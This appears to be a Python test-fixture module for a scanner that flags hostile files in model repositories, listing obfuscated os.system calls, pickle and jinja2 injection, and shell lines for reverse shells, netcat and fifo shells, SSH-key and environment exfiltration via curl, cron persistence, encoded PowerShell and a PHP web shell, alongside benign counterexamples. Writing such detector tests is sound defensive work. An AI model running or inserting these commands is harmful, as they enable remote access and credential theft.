"""Python files that act in a roundabout way, scripts in other languages, and honest ones of both kinds."""

from __future__ import annotations

from . import Case
from .remote import IMPORT, _config, files

_TOUCH = "'touch \"$WEIGHTSMITH_MARKER\"'"


def _python(name: str, source: str, verdict: str = "malicious", rule: str = "python-hostile", *, fires: bool = True,
            file: str = "helpers.py") -> Case:  # fmt: skip
    source = source.replace("TOUCH", _TOUCH)
    return Case(f"indirect-{name}", files({"config.json": _config(), file: source}), verdict, (rule,),
                IMPORT.replace("FILE", repr(file)) if fires else "")  # fmt: skip


def _odd(name: str, source: str, *, fires: bool = True) -> Case:
    return _python(name, source, "suspicious", "python-risky", fires=fires)


PYTHON = [
    _python("tuple", "import os\na, b = os, 1\na.system(TOUCH)\n"),
    _python("class-attribute", "import os\nclass K:\n    o = os\nK.o.system(TOUCH)\n"),
    _python("loop", "import os\nfor o in [os]:\n    o.system(TOUCH)\n"),
    _python("default", "import os\ndef f(o=os):\n    o.system(TOUCH)\nf()\n"),
    _python("lambda", "import os\n(lambda m: m.system(TOUCH))(os)\n"),
    _python("walrus", "import os\n(f := os).system(TOUCH)\n"),
    _python("list", "import os\nx = [os][0]\nx.system(TOUCH)\n"),
    _python("posix", "import posix\nposix.system(TOUCH)\n"),
    _python("module-in-module", "import pathlib\npathlib.os.system(TOUCH)\n"),
    _python("from-module", "from pathlib import os as o\no.system(TOUCH)\n"),
    _python("private-module", "import random\nrandom._os.system(TOUCH)\n"),
    _python("modules-get", "import sys, os\nsys.modules.get('os').system(TOUCH)\n"),
    _python("reversed-name", "import os\nf = getattr(os, 'metsys'[::-1])\nf(TOUCH)\n"),
    _python("own-dict", "import os\nos.__dict__['metsys'[::-1]](TOUCH)\n"),
    _python("vars-get", "import os\nvars(os).get('system')(TOUCH)\n"),
    _python("globals", "import os\nglobals()['o' + 's'].system(TOUCH)\n"),
    _python("getattribute", "import os\nos.__getattribute__('system')(TOUCH)\n"),
    _python("resolve-name", "import pkgutil\npkgutil.resolve_name('os:system')(TOUCH)\n"),
    _python("locate", "import pydoc\npydoc.locate('os.system')(TOUCH)\n"),
    _python("pager", "import pydoc\npydoc.pipepager('x', TOUCH)\n"),
    _python("collect-env", "import os\nimport torch.utils.collect_env as ce\nce.run('touch ' + "
          "os.environ['WEIGHTSMITH_MARKER'])\n"),
    _python("parameter", "import importlib\ndef f(a, b, c):\n    getattr(importlib.import_module(a), b)(c)\nf('os', 'system', "
          "TOUCH)\n"),
    _python("dunder", "import os\nclass R:\n    def __matmul__(self, c):\n        os.system(c)\nR() @ TOUCH\n"),
    _python("handed-function", "import os\ndef f(c):\n    os.system(c)\nlist(map(f, [TOUCH]))\n"),
    _python("main-is-any-name", "import os\nif __name__ == __name__:\n    os.system(TOUCH)\n"),
    _python("alias-of-exec", "e = [exec]\ne[0]('import os\\nopen(os.environ[\"WEIGHTSMITH_MARKER\"], \"w\").close()')\n"),
    _odd("attrgetter", "import os, operator\noperator.attrgetter('system')(os)(TOUCH)\n"),
    _odd("handed-module", "import os\nclass A:\n    def __init__(self, m):\n        self.m = m\n    def go(self):\n        "
          "self.m.system(TOUCH)\n"
         "x = A(os)\nsetattr(A, 'then', A.go)\nx.then()\n"),
    _odd("names-of-a-module", "import os\n[getattr(os, n) for n in dir(os) if n.startswith('syst')][0](TOUCH)\n"),
    _odd("pickle-in-text", "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\\'touch \"$WEIGHTSMITH_MARKER\"\\'\\ntR.')\n"),
    _odd("code-in-text", "import timeit\ntimeit.timeit('import os; os.system(\\'touch \"$WEIGHTSMITH_MARKER\"\\')', number=1)\n"),
    _odd("template-in-text", "import jinja2\njinja2.Template('{{ cycler.__init__.__globals__.os.popen(\"touch "
          "$WEIGHTSMITH_MARKER\").read() }}')"
         ".render()\n"),
    _python("builtins", "__builtins__['exec']('import os\\nopen(os.environ[\"WEIGHTSMITH_MARKER\"], \"w\").close()')\n"),
    _odd("made-module", "import importlib\nm = importlib.import_module(''.join(chr(c) for c in (111, 115)))\n"
         "getattr(m, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))(TOUCH)\n"),
    _odd("in-a-function", "import torch\nclass Mini:\n    def forward(self):\n        torch.os.system('id')\n", fires=False),
]  # fmt: skip


def _script(name: str, file: str, text: str | bytes, verdict: str = "malicious") -> Case:
    rule = {"malicious": "script-hostile", "suspicious": "script-risky"}[verdict]
    return Case(f"script-{name}", files({"config.json": _config(), file: text}), verdict, (rule,))


SCRIPTS = [
    _script("shell-away", "setup.sh", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"),
    _script("netcat", "run.sh", "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 9\n"),
    _script("fifo", "run.sh", "mkfifo /tmp/f\ncat /tmp/f | sh 2>&1 | nc 127.0.0.1 9 > /tmp/f\n"),
    _script("decoded", "install.sh", "echo dG91Y2ggL3RtcC94 | base64 -d | bash\n"),
    _script("key-away", "run.sh", "cat ~/.ssh/id_rsa | curl -F x=@- http://127.0.0.1:9\n"),
    _script("key-away-later", "run.sh", "K=$(cat ~/.ssh/id_ed25519)\ncurl -X POST -d \"$K\" http://127.0.0.1:9\n"),
    _script("environment-away", "run", "#!/bin/sh\nenv | curl -d @- http://127.0.0.1:9\n"),
    _script("cron", "run.sh", "(crontab -l; echo '* * * * * curl -s http://127.0.0.1:9 | sh') | crontab -\n"),
    _script("encoded", "run.bat", "@echo off\r\npowershell -w hidden -enc SQBFAFgAIAA=\r\n"),
    _script("web-shell", "a.php", "<?php system($_GET['c']); ?>\n"),
    _script("makefile", "Makefile", "all:\n\techo dG91Y2g= | base64 --decode | sh\n"),
    _script("wide-letters", "setup.ps1", "powershell -enc SQBFAFgAIAA=\n".encode("utf-16")),
    _script("piped", "install.sh", "#!/bin/sh\ncurl -s http://127.0.0.1:9/x.sh | sh\n", "suspicious"),
    _script("piped-broken-up", "install.sh", "#!/bin/sh\ncu''rl -s http://127.0.0.1:9/x.sh \\\n  | b\\ash\n", "suspicious"),
    _script("download-string", "setup.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a.ps1')\n",
          "suspicious"),
    _script("child-process", "postinstall.js", "require('child_process').execSync('id')\n", "suspicious"),
    _script("script-host", "a.hta", "<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\n", "suspicious"),
    _script("r-profile", ".Rprofile", "system('touch /tmp/x')\n", "suspicious"),
    Case("script-python-by-its-first-line", files({"config.json": _config(), "run": "#!/usr/bin/env python3\nimport "
          "os\nos.system('id')\n"}),
         "malicious", ("python-hostile",)),
]  # fmt: skip


def _honest(name: str, file: str, text: str) -> Case:
    return Case(f"indirect-honest-{name}", files({"config.json": _config(), file: text}))


HONEST = [
    _honest("handler", "handler.py", "import os\nimport importlib\nfrom typing import Any\n\nimport torch\nfrom transformers "
          "import AutoModel\n\n"
            "CLASSES = {'bert': 'BertModel'}\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n"
            "        self.dtype = getattr(torch, os.environ.get('DTYPE', 'float16'))\n        os.makedirs(os.path.join(path, "
            "'x'), exist_ok=True)\n"
            "        module = importlib.import_module('transformers.models.bert')\n        self.cls = getattr(module, "
            "CLASSES['bert'])\n"
            "        for name in ('alpha', 'beta'):\n            setattr(self, name, getattr(self, 'x_' + name, None))\n"
            "        self.model = AutoModel.from_pretrained(path)\n        self.model.eval()\n\n"
            "    def __call__(self, data: dict[str, Any]):\n        return self.model(**data)\n"),
    _honest("class-map", "modeling_mini.py", "import importlib\nimport sys\n\nimport torch\nfrom torch import nn\n\n\ndef "
          "make(config):\n"
            "    module = importlib.import_module(f'.{config.model_type}', 'transformers.models')\n    return getattr(module, "
            "config.cls)(config)\n\n\n"
            "def own(name):\n    return getattr(sys.modules[__name__], name)\n\n\nclass Mini(nn.Module):\n    def "
            "__init__(self, config):\n"
            "        super().__init__()\n        self.act = getattr(nn, config.act)()\n        self.run = "
            "torch.compile(self.forward)\n"),
    _honest("train", "train.py", "import argparse\nimport subprocess\nimport sys\n\nimport os\n\n\ndef main():\n    p = "
          "argparse.ArgumentParser()\n"
            "    p.add_argument('--out', default=os.getcwd())\n    a = p.parse_args()\n"
            "    subprocess.run([sys.executable, '-m', 'torch.distributed.run', 'x.py', a.out], check=True)\n\n\nif __name__ "
            "== '__main__':\n    main()\n"),
    _honest("install", "install.sh", "#!/bin/bash\nset -euo pipefail\n# curl http://x | sh is what this does not do\npip "
          "install -r requirements.txt\n"
            "huggingface-cli download org/model --local-dir .\ngit clone https://github.com/x/y && cd y && cmake -B build && "
            "make -j\n"
            "curl -L -o m.gguf https://huggingface.co/x/y/resolve/main/m.gguf\nrm -rf build/ ./tmp\nsource venv/bin/activate\n"
            "curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    _honest("serve", "run.sh", "#!/bin/sh\nexport HF_TOKEN=$(cat ~/.cache/huggingface/token)\ndocker run --gpus all -p "
          "8000:8000 vllm/vllm-openai\n"
            "until (echo > /dev/tcp/localhost/8000) 2>/dev/null; do sleep 1; done\ncurl -s http://localhost:8000/v1/models | "
            "python -m json.tool\n"
            "curl https://api.openai.com/v1/x -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{\"a\": 1}'\necho 'export "
            "PATH=$HOME/bin:$PATH' >> ~/.bashrc\n"),
    _honest("makefile", "Makefile", "all: build\n\tpython convert.py --out model.gguf\n\nclean:\n\trm -rf build\n"),
    _honest("web", "demo.js", "import { pipeline } from '@huggingface/transformers';\nconst r = await "
          "fetch('model.onnx');\nconsole.log(await r.text());\n"),
    _honest("windows", "run.bat", "@echo off\r\nrem curl http://x | sh\r\npowershell -ExecutionPolicy Bypass -File "
          "setup.ps1\r\npython app.py\r\n"),
]  # fmt: skip
CASES = [*PYTHON, *SCRIPTS, *HONEST]
